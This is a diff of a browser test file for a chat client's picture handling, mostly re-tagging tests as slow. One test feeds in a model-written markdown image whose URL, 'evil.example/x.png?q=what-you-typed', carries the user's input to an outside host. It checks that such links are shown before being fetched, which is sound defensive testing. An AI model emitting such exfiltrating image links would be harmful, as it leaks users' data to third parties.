@@ -4,6 +4,7 @@ import { userEvent } from 'vitest/browser';
 import type { FetchedPicture } from '../../src/contracts/attachment';
 import { show } from './show';
 import { call, result, text, Told } from './told';
+import { slow } from '../support/matrix';
 
 /** A PNG of one red pixel. */
 const pixel = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC';
@@ -60,7 +61,7 @@ test('invariant: a picture in an answer is fetched only after a press and freed 
   await expect(readBlob(src)).rejects.toThrow();
 });
 
-test.for([
+slow.for([
   { problem: 'unreachable' as const, says: /may not let other pages read its pictures/ },
   { problem: 'refused-address' as const, says: /over https from the public internet alone/ },
   { problem: 'wrong-type' as const, says: /no PNG, JPEG, GIF or WebP/ },
@@ -86,7 +87,7 @@ test('a truncated picture file is reported as damaged', async () => {
   await expect.element(screen.getByText(/cannot draw it/)).toBeVisible();
 });
 
-test('in a chat with web text, a picture URL made up by the model is shown before fetching', async () => {
+slow('in a chat with web text, a picture URL made up by the model is shown before fetching', async () => {
   const url = 'https://evil.example/x.png?q=what-you-typed';
   const { screen, asked } = await answered(`![a](${url}) ![b](https://found.example/a.png)`, {
     isOutside: true,
